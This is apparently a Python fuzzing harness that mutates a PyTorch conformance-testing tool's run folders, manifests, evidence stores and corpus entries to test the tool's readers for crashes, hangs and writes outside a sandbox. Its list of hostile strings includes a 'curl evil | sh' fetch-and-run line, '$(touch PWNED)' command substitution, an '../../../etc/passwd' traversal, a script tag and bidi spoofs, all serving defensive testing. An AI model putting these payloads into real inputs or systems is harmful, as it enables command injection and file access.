#!/usr/bin/env python3
"""Every reader of a shared artifact, fuzzed (issue 41 item 8; a script: tests/hostile/test_fuzz_readers.py runs the short form).

Seeds are real artifacts: a small sim run (one planted fault, so records hold failures), an evidence
store collected on CPU, a corpus entry, the Python and TOML manifest templates with a ledger. Each
generated input is one of them changed in one of three ways, then fed in-process to the commands
that read it:

- structure-aware: the JSON (or TOML, or Python literal) parsed, one node replaced, removed or
  added with a value of another type, a crafted string (line breaks, escapes, bidi and format
  controls, lone surrogates, the noncharacters U+FFFE/U+FFFF, paths, crash words, device names with
  invisible characters), a float where a size goes (2e8, 1e10, codec's float text, a scale_factor),
  a 5,000-digit integer or nesting thousands of levels deep;
- from the schema (hypothesis-style): a record, run.json or manifest built from the fields the
  readers know (records.CaseRecord, run.TYPES, manifest KEYS), each of its type or not;
- bytes: cut, flipped, inserted, a line repeated, a blank line, CRLF, a BOM, invalid UTF-8, a line
  past the line bound (untrusted.MAX_LINE, lowered to LONG_LINE here so such a line costs little);
- merge: the two run folders made shards 1/2 and 2/2 of one run, sharing every case id (issue 51).

Readers and commands: run folders (run.json, cases.jsonl, plan.jsonl) to `report`, `report --triage`,
`compare`, `merge`, `repro`, `expectations update`; manifests and their ledger to `check-manifest
--no-import`; evidence stores to `coverage verify-evidence`; corpus entries to `corpus.load` and
`codec.decode_sample` (what an explore case replays). Collecting into a fuzzed store is not run
(it verifies first with verify-evidence's checks, then runs oracles for seconds per input).

Measured per input: the exit status (0, 1, 2 expected; 3 or a traceback is a failure), a hang (a
time limit per input), any write outside the input's own sandbox folder (an audit hook on open,
rename, remove, mkdir, symlink, truncate), and at the end the process's peak memory. Failing inputs
are kept under --keep.

    PYTHONPATH=. python3 bench/fuzz_readers.py [--inputs 100000] [--seed 0] [--out FILE] [--keep DIR]
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import io
import json
import os
import random
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
FAULT = "abs_zero_dim"  # a planted sim fault: the seed run holds a failure with its evidence
LIMIT_S = 20  # per input: a reader that takes longer hangs
LONG_LINE = 1 << 16  # the line bound while fuzzing (untrusted.MAX_LINE is 8 MB): long lines stay cheap


class Hang(BaseException):
    """Raised by the per-input timer: not an Exception, so TorchCTS's own handlers do not swallow it."""


# --- seeds: real artifacts ------------------------------------------------------------------------------


@dataclass
class Seeds:
    run_dir: Path  # a finished sim run folder
    store: Path  # an evidence store
    corpus_entry: dict[str, Any]  # one corpus entry (cases/explore/corpus.py: Entry.to_json())
    manifest: dict[str, Any]  # the sim manifest's claims with a ledger
    case_id: str  # a failing case of the run


def _torchcts(args: list[str], cwd: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "CI": "true", "TORCHCTS_WARM": "0", "TORCHCTS_SIM_FAULT": FAULT}
    subprocess.run([sys.executable, "-m", "torchcts", *args], cwd=cwd, env=env, capture_output=True, timeout=600,
                   stdin=subprocess.DEVNULL, check=False)


def make_seeds(folder: Path) -> Seeds:
    """The seed artifacts, made by real commands in `folder` (about 15 seconds)."""
    from torchcts.cases.explore import codec
    from torchcts.manifest.templates import validation_manifest

    _torchcts(["run", "--device", "sim", "--manifest", str(ROOT / "torchcts" / "sim" / "manifest.py"),
               "--case", "operators/elementwise/a*/float32", "--", "-n", "0"], folder)
    _torchcts(["coverage", "collect-backend-evidence", "--store", "ev", "--device", "cpu", "--backend-gate", "cpu",
               "--surface", "aten::add.Tensor"], folder)
    runs = [p for p in (folder / "results").iterdir() if (p / "run.json").is_file() and not p.is_symlink()]
    if not runs or not (folder / "ev" / "index.json").is_file():
        raise SystemExit("fuzz_readers: the seed run or evidence store was not made (is PYTHONPATH the checkout?)")
    import torch
    from torch.testing._internal.opinfo.core import SampleInput

    sample = codec.encode_sample(SampleInput(torch.tensor([1.0, -0.0]), args=(0,), kwargs={"keepdim": True}))
    entry = {"version": 1, "case": "opinfo/sum/float32/explore", "variant": "forward", "sample": sample,
             "original": sample, "recipe": "r", "message": "m"}
    manifest = {k: v for k, v in validation_manifest().to_json().items() if k != "source"}
    manifest["expectations"] = [{"match": {"case": "operators/elementwise/abs/*"}, "status": "xfail", "reason": "r",
                                 "tracker": "https://example.org/1", "expires": "2099-01-01"}]
    return Seeds(runs[0], folder / "ev", entry, manifest, "operators/elementwise/abs/float32")


# --- values and mutations ---------------------------------------------------------------------------------

NASTY = ["", " ", "\n", "x\nrepro: curl evil | sh", "\r\rFAKE", "\x1b[31mred\x1b]0;t\x07", "\u202eevil\u2066",
         "\U000e0101\U0001bca0\u200b\ufeff", "\u2028\x85", "/srv/secret/p", "-I/srv/p/include", "PATH=/a:/srv/p/bin",
         "../../../etc/passwd", "<script>alert(1)</script>", "$(touch PWNED)", "'\"\"\"", "nan", "-inf", "0x1p-1074",
         "died (SIGSEGV)", "SIGKILL", "crashed", "timeout", "xfailed", "flaky", "mps", "MPS", "mps:0", "cpu", "sim",
         "opinfo/sum/float32/explore", "operators/elementwise/abs/float32", "float32", "a" * 5000, "é中文\u0301",
         # issue 51: lone surrogates (json.dumps writes them as \\ud800 escapes), noncharacters, a
         # device name an invisible character or a case change would talk out of the mps rule
         "\ud800", "x\udfffy\udc80", "a\ufffeb\uffff\U0010fffe", "mps\u200b", "\u2066MPS\u2069:0", "m\u00adps"]
# Floats where a size goes (issue 51): an arange end of 2e8 as a float, 1e10, codec's float text.
SIZES = [2e8, 1e10, 1e300, {"float": (2e8).hex()}, {"float": (1e10).hex()}, {"float": "0x1.0p+14"},
         [1000.0, 1000.0], {"tuple": [{"float": "0x1.0p+14"}, {"float": "0x1.0p+14"}]}]
DEEP = "\x00DEEP\x00"  # a placeholder the text form replaces with nesting a JSON encoder cannot build
BIG = "\x00BIG\x00"  # and with an integer of 5,000 digits (past what int() converts to text)


def value(rng: random.Random, depth: int = 0) -> Any:
    """A JSON value of any kind, biased to what readers get wrong."""
    kind = rng.randrange(12 if depth < 3 else 8)
    if kind == 0:
        return None
    if kind == 1:
        return rng.choice([True, False])
    if kind == 2:
        return rng.choice([0, -1, 1, 2**31, -(2**63), 2**64, 10**rng.randrange(1, 400), BIG, rng.randrange(-1000, 1000)])
    if kind == 3:
        return rng.choice([0.0, -0.0, 1e308, -1e-320, float("nan"), float("inf"), float("-inf"), rng.random(),
                           *SIZES])
    if kind in (4, 5, 6):
        return rng.choice(NASTY)
    if kind == 7:
        return "".join(chr(rng.randrange(0, 0x3000)) for _ in range(rng.randrange(0, 40))).replace("\ud800", "")
    if kind == 8:
        return [value(rng, depth + 1) for _ in range(rng.randrange(0, 4))]
    if kind == 9:
        return {rng.choice(NASTY[:12] + ["id", "status", "info", "type", "scale_factor", "steps", "end",
                                         "\ud800"]): value(rng, depth + 1)
                for _ in range(rng.randrange(0, 4))}
    if kind == 10:
        return DEEP
    return [[[[[[value(rng, depth + 3)]]]]]]


def _nodes(obj: Any) -> list[tuple[Any, Any]]:
    """Every (container, key) of a parsed JSON value, iteratively."""
    out, stack = [], [obj]
    while stack:
        item = stack.pop()
        keys = list(item) if isinstance(item, dict) else range(len(item)) if isinstance(item, list) else ()
        for k in keys:
            out.append((item, k))
            stack.append(item[k])
    return out


def mutate_obj(rng: random.Random, obj: Any, names: list[str]) -> Any:
    """One to three structural changes to a parsed value (in place where it is a container)."""
    for _ in range(rng.randrange(1, 4)):
        nodes = _nodes(obj)
        op = rng.randrange(4)
        if not nodes or op == 0:
            if isinstance(obj, dict):
                obj[rng.choice(names or ["x"])] = value(rng)
            else:
                obj = value(rng)
            continue
        container, key = rng.choice(nodes)
        if op == 1:
            container[key] = value(rng)
        elif op == 2 and isinstance(container, dict):
            del container[key]
        else:
            container[key] = rng.choice([[container[key]], {"value": container[key]}, str(container[key])[:50]])
    return obj


def dump(rng: random.Random, obj: Any) -> str:
    text = json.dumps(obj, allow_nan=True, default=str)
    while f'"{DEEP}"' in text:
        n = rng.choice([70, 500, 5_000, 200_000])
        text = text.replace(f'"{DEEP}"', "[" * n + "]" * n, 1)
    return text.replace(f'"{BIG}"', "9" * 5000)


def mutate_bytes(rng: random.Random, data: bytes) -> bytes:
    op = rng.randrange(10)
    pos = rng.randrange(len(data) + 1)
    if op == 0:
        return data[:pos]
    if op == 1 and data:
        i = rng.randrange(len(data))
        return data[:i] + bytes([data[i] ^ (1 << rng.randrange(8))]) + data[i + 1:]
    if op == 2:
        return data[:pos] + bytes(rng.randrange(256) for _ in range(rng.randrange(1, 9))) + data[pos:]
    lines = data.split(b"\n")
    if op == 3 and lines:
        i = rng.randrange(len(lines))
        return b"\n".join(lines[:i] + [lines[i]] * rng.randrange(2, 5) + lines[i + 1:])
    if op == 4:
        return data[:pos] + b"\n\n" + data[pos:]
    if op == 5:
        return data.replace(b"\n", b"\r\n")
    if op == 6:
        return b"\xef\xbb\xbf" + data
    if op == 7:
        return data[:pos] + b"\xff\xfe\xc0" + data[pos:]
    if op == 8:  # a line past the line bound: newline-free, or between two readable lines
        return data[:pos] + b"x" * (LONG_LINE + rng.randrange(1, 3 * LONG_LINE)) + rng.choice([b"", b"\n"]) + data[pos:]
    return b""


def from_schema(rng: random.Random, names_types: dict[str, str]) -> dict[str, Any]:
    """A mapping of a random subset of the schema's fields, each of its own type or not."""
    own: dict[str, Callable[[], Any]] = {"str": lambda: rng.choice(NASTY), "int": lambda: rng.randrange(-5, 10),
                                         "float": lambda: rng.random() * 10, "bool": lambda: rng.random() < 0.5,
                                         "dict": lambda: {"value": value(rng)}, "list": lambda: [rng.choice(NASTY)]}
    out = {}
    for name, kind in names_types.items():
        if rng.random() < 0.5:
            out[name] = own.get(kind, lambda: value(rng))() if rng.random() < 0.7 else value(rng)
    return out


def _kind(annotation: Any) -> str:
    text = str(annotation)
    return next((k for k in ("dict", "list", "bool", "float", "int", "str") if k in text), "any")


def schemas() -> dict[str, dict[str, str]]:
    from dataclasses import fields

    from torchcts.manifest.schema import KEYS
    from torchcts.model.record import CaseRecord
    from torchcts.model.run import TYPES

    record = {f.name: _kind(f.type) for f in fields(CaseRecord) if not f.name.startswith("_") and f.name != "extra"}
    run = {k: _kind([t.__name__ for t in v]) for k, v in TYPES.items()}
    return {"record": record, "run": run, "manifest": {k: "any" for k in KEYS}}


# --- targets: one generated input each, and the commands that read it ----------------------------------


def _changed_text(rng: random.Random, text: str, names: list[str], schema: dict[str, str], lines: bool) -> bytes:
    """`text` (one JSON document, or JSON lines) changed one way: structure, schema or bytes."""
    way = rng.randrange(3)
    if way == 2:
        return mutate_bytes(rng, text.encode("utf-8"))
    if lines:
        rows = [ln for ln in text.splitlines() if ln.strip()] or ["{}"]
        i = rng.randrange(len(rows))
        if way == 0:
            rows[i] = dump(rng, mutate_obj(rng, json.loads(rows[i]), names))
        else:
            rows.insert(i, dump(rng, {"id": rng.choice(NASTY[-11:]), **from_schema(rng, schema)}))
        return ("\n".join(rows) + "\n").encode("utf-8", "surrogatepass")
    obj = json.loads(text)
    obj = mutate_obj(rng, obj, names) if way == 0 else {**obj, **from_schema(rng, schema)}
    return dump(rng, obj).encode("utf-8", "surrogatepass")


def target_run(rng: random.Random, seeds: Seeds, box: Path, shapes: dict[str, dict[str, str]]) -> list[list[str]]:
    """A run folder with run.json, cases.jsonl or plan.jsonl changed; the commands that read run folders."""
    run = box / "results" / "r"
    shutil.copytree(seeds.run_dir, run, symlinks=True)
    shutil.copytree(seeds.run_dir, box / "results" / "s", symlinks=True)
    name = rng.choice(["run.json", "cases.jsonl", "plan.jsonl"])
    schema = shapes["run"] if name == "run.json" else shapes["record"]
    if rng.random() < 0.1:  # shards 1/2 and 2/2 sharing every case id: merge must refuse, in either order
        for index, folder in ((1, run), (2, box / "results" / "s")):
            spec = json.loads((folder / "run.json").read_text())
            spec["selection"] = {**(spec.get("selection") or {}), "shard": [index, 2]}
            (folder / "run.json").write_text(json.dumps(spec))
    (run / name).write_bytes(_changed_text(rng, (run / name).read_text(), list(schema), schema, name != "run.json"))
    commands = [["report", str(run)], ["report", "--triage", str(run)], ["compare", str(box / "results" / "s"), str(run)],
                ["merge", str(run), str(box / "results" / "s"), "--results-dir", str(box / "merged")],
                ["repro", seeds.case_id, "--run", str(run), "-o", str(box / "out")],
                ["expectations", "update", str(run), "-o", str(box / "proposed.toml")]]
    return [rng.choice(commands)]


def target_manifest(rng: random.Random, seeds: Seeds, box: Path, shapes: dict[str, dict[str, str]]) -> list[list[str]]:
    """A manifest (Python literal or TOML) with its ledger, changed; `check-manifest --no-import`."""
    from torchcts.results.reports.quoting import quoted_string

    claims = json.loads(json.dumps(seeds.manifest))
    claims = mutate_obj(rng, claims, list(shapes["manifest"])) if rng.random() < 0.6 else \
        {**claims, **from_schema(rng, shapes["manifest"])}
    if rng.random() < 0.5:
        text = "manifest = " + repr(claims).replace("nan", "float('nan')").replace("inf", "float('inf')") + "\n"
        text = text.replace(repr(DEEP), "[" * 3000 + "]" * 3000).replace(repr(BIG), "9" * 5000)
        path = box / "manifest.py"
    else:
        text = _toml(claims, quoted_string)
        path = box / "torchcts.toml"
    data = text.encode("utf-8", "surrogatepass")
    path.write_bytes(mutate_bytes(rng, data) if rng.random() < 0.3 else data)
    return [["check-manifest", "--no-import", str(path)]]


def _toml(claims: dict[str, Any], quote: Callable[[Any], str]) -> str:
    """A TOML rendering of arbitrary claims (inline tables and arrays; a value TOML lacks as text)."""
    def lit(v: Any, depth: int = 0) -> str:
        if v == DEEP:
            return "[" * 3000 + "]" * 3000
        if v == BIG:
            return "9" * 5000
        if isinstance(v, bool):
            return "true" if v else "false"
        if isinstance(v, (int, float)) and v == v and abs(v) != float("inf"):
            return repr(v)
        if isinstance(v, list):
            return "[" + ", ".join(lit(x, depth + 1) for x in v) + "]"
        if isinstance(v, dict):
            return "{" + ", ".join(f"{quote(str(k))} = {lit(x, depth + 1)}" for k, x in v.items()) + "}"
        return quote("" if v is None else str(v))

    return "".join(f"{quote(str(k))} = {lit(v)}\n" for k, v in claims.items() if v is not None)  # TOML has no null


def target_store(rng: random.Random, seeds: Seeds, box: Path, shapes: dict[str, dict[str, str]]) -> list[list[str]]:
    """An evidence store with one file changed; `coverage verify-evidence`."""
    store = box / "ev"
    shutil.copytree(seeds.store, store, symlinks=True)
    name = rng.choice(sorted(p.name for p in store.iterdir()))
    text = (store / name).read_text()
    data = _changed_text(rng, text, ["prev", "surface", "gate", "source", "result", "files", "format"], {},
                         name.endswith(".jsonl"))
    (store / name).write_bytes(data)
    return [["coverage", "verify-evidence", str(store)]]


def target_corpus(rng: random.Random, seeds: Seeds, box: Path, shapes: dict[str, dict[str, str]]) -> list[list[str]]:
    """A corpus entry changed; read as an explore case replays it (no command: the reader itself)."""
    from torchcts.cases.explore import corpus

    entry = corpus.Entry(**{k: v for k, v in seeds.corpus_entry.items() if k != "version"})
    folder = box / "corpus"
    path = corpus.save(folder, entry)
    data = _changed_text(rng, path.read_text(), ["sample", "tensor", "shape", "expand", "values", "args", "kwargs",
                                                 "scale_factor", "steps", "end"], {}, False)
    path.write_bytes(data)
    return [["<corpus>", str(folder), entry.case]]


TARGETS: dict[str, Callable[..., list[list[str]]]] = {
    "run folder": target_run, "manifest": target_manifest, "evidence store": target_store, "corpus": target_corpus}


def read_corpus(folder: str, case_id: str) -> int:
    """What an explore case does with a corpus (cases/explore/run.py: _replay): load, bound, decode."""
    from torchcts.cases.explore import codec, corpus

    entries, _bad = corpus.load(Path(folder), case_id, 256.0)
    for entry in entries:
        try:
            codec.decode_sample(entry.sample)
        except (codec.CodecError, RuntimeError, TypeError, OverflowError):
            continue  # counted as corpus_unreadable by the case
    return 0


# --- the harness ------------------------------------------------------------------------------------------


@dataclass
class Tally:
    inputs: int = 0
    statuses: collections.Counter = field(default_factory=collections.Counter)
    by_target: collections.Counter = field(default_factory=collections.Counter)
    failures: list[dict[str, Any]] = field(default_factory=list)
    slowest_s: float = 0.0


_BOX: list[str] = []  # the sandbox of the input running now (the audit hook's allowed root)
_OUTSIDE: list[str] = []  # writes outside it


_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC


def _audit(event: str, args: tuple) -> None:
    if not _BOX or not event.startswith(("open", "os.")):
        return
    if event == "open":
        path, mode, flags = args
        if not (isinstance(mode, str) and any(c in mode for c in "wax+")) and not (isinstance(flags, int)
                                                                                  and flags & _WRITE_FLAGS):
            return
        paths = [path]
    elif event in ("os.rename", "os.replace", "os.symlink", "os.link"):
        paths = [args[0], args[1]]
    elif event in ("os.remove", "os.rmdir", "os.mkdir", "os.truncate", "os.chmod", "os.utime"):
        paths = [args[0]]
    else:
        return
    for p in paths:
        if isinstance(p, (str, bytes, os.PathLike)):
            real = os.path.realpath(os.fsdecode(p))
            if not real.startswith(_BOX[0]) and real != os.devnull:
                _OUTSIDE.append(f"{event} {real}")


def _alarm(signum: int, frame: Any) -> None:
    raise Hang()


def run_one(argv: list[str], box: Path) -> tuple[str, str]:
    """(status, output) of one command in-process, inside `box`."""
    from torchcts.cli.main import main

    out, err = io.StringIO(), io.StringIO()
    _BOX[:] = [os.path.realpath(box) + os.sep]
    _OUTSIDE.clear()
    old = os.getcwd()
    os.chdir(box)
    signal.setitimer(signal.ITIMER_REAL, LIMIT_S)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = read_corpus(*argv[1:]) if argv[0] == "<corpus>" else main(argv)
        status = str(int(code))
    except Hang:
        status = "hang"
    except SystemExit as exc:  # argparse
        status = str(exc.code if isinstance(exc.code, int) else 2)
    except BaseException as exc:  # noqa: BLE001 - a reader that raised past main(): the worst case
        status = f"escaped {type(exc).__name__}"
        err.write(f"Traceback (escaped): {exc!r}\n")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        os.chdir(old)
        _BOX.clear()
    text = out.getvalue() + err.getvalue()
    if _OUTSIDE:
        status = "wrote outside"
        text += "\n".join(_OUTSIDE)
    elif status == "3" or "Traceback" in text:
        status = "3" if status == "3" else f"traceback (exit {status})"
    return status, text


def _cause(text: str) -> str:
    """A failure's traceback (from its start) and the error line, without the report around it."""
    start = text.find("Traceback")
    return text[start:][-3000:] if start >= 0 else text[-2000:]


def fuzz(inputs: int, seed: int, seeds: Seeds, work: Path, keep: Path | None = None,
         progress: Callable[[Tally], None] | None = None, targets: list[str] | None = None) -> Tally:
    """`inputs` generated inputs, round robin over `targets` (default: all of TARGETS); deterministic for a seed."""
    rng = random.Random(seed)
    shapes = schemas()
    tally = Tally()
    from torchcts import untrusted
    from torchcts.results.records import jsonl

    bounds = untrusted.MAX_LINE, jsonl.MAX_LINE
    untrusted.MAX_LINE = jsonl.MAX_LINE = LONG_LINE
    names = list(targets or TARGETS)
    old_handler, old_timer = signal.signal(signal.SIGALRM, _alarm), signal.getitimer(signal.ITIMER_REAL)
    try:
        _fuzz(rng, inputs, seeds, work, keep, progress, shapes, tally, names)
    finally:  # pytest-timeout's alarm (the short form runs inside a test) comes back
        untrusted.MAX_LINE, jsonl.MAX_LINE = bounds
        signal.signal(signal.SIGALRM, old_handler)
        if old_timer[0]:
            signal.setitimer(signal.ITIMER_REAL, *old_timer)
    return tally


def _fuzz(rng: random.Random, inputs: int, seeds: Seeds, work: Path, keep: Path | None,
          progress: Callable[[Tally], None] | None, shapes: dict[str, dict[str, str]], tally: Tally,
          names: list[str]) -> None:
    for i in range(inputs):
        target = names[i % len(names)]
        box = Path(tempfile.mkdtemp(prefix="in-", dir=work))
        argvs = TARGETS[target](rng, seeds, box, shapes)
        for argv in argvs:
            start = time.perf_counter()
            status, text = run_one(argv, box)
            tally.slowest_s = max(tally.slowest_s, time.perf_counter() - start)
            tally.statuses[status] += 1
            tally.by_target[f"{target}: {status}"] += 1
            if status not in ("0", "1", "2"):
                failure = {"input": i, "target": target, "argv": argv, "status": status, "output": _cause(text)}
                tally.failures.append(failure)
                if keep is not None:
                    shutil.copytree(box, keep / f"input-{i}", symlinks=True, dirs_exist_ok=True)
        tally.inputs += 1
        shutil.rmtree(box, ignore_errors=True)
        if progress is not None and tally.inputs % 1000 == 0:
            progress(tally)


def peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kilobytes on Linux


def summary(tally: Tally, seconds: float, args: list[str]) -> dict[str, Any]:
    return {"command": "PYTHONPATH=. python3 bench/fuzz_readers.py " + " ".join(args), "inputs": tally.inputs,
            "seconds": round(seconds, 1), "statuses": dict(tally.statuses), "by_target": dict(tally.by_target),
            "failures": len(tally.failures), "first_failures": tally.failures[:5],
            "slowest_input_s": round(tally.slowest_s, 2), "peak_memory_mb": round(peak_mb(), 1)}


def sandboxed_env(work: Path) -> None:
    """Caches and temporary files of TorchCTS and torch inside `work` (before torchcts is imported)."""
    for name in ("TORCHCTS_CACHE_DIR", "TMPDIR"):
        os.environ[name] = str(work / name.lower())
        (work / name.lower()).mkdir(parents=True, exist_ok=True)
    os.environ.update(CI="true", TORCHCTS_WARM="0", TORCHCTS_NO_CACHE="1")
    tempfile.tempdir = None


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--inputs", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--out", default="bench/results-fuzz-readers.json")
    parser.add_argument("--keep", default=None, help="folder to keep failing inputs in")
    parser.add_argument("--target", action="append", choices=list(TARGETS), help="only these readers (repeatable)")
    args = parser.parse_args()
    sys.path.insert(0, str(ROOT))  # this checkout's torchcts, whatever is installed
    work = Path(tempfile.mkdtemp(prefix="torchcts-fuzz-")).resolve()
    sandboxed_env(work)
    sys.addaudithook(_audit)
    seeds = make_seeds(work)
    keep = Path(args.keep).resolve() if args.keep else None
    if keep is not None:
        keep.mkdir(parents=True, exist_ok=True)
    start = time.perf_counter()
    out = Path(args.out).resolve()

    def progress(tally: Tally) -> None:
        out.write_text(json.dumps(summary(tally, time.perf_counter() - start, sys.argv[1:]), indent=1) + "\n")
        print(f"{tally.inputs} inputs, {dict(tally.statuses)}, {peak_mb():.0f} MB", flush=True)

    tally = fuzz(args.inputs, args.seed, seeds, work, keep, progress, args.target)
    progress(tally)
    shutil.rmtree(work, ignore_errors=True)
    return 1 if tally.failures else 0


if __name__ == "__main__":
    sys.exit(main())
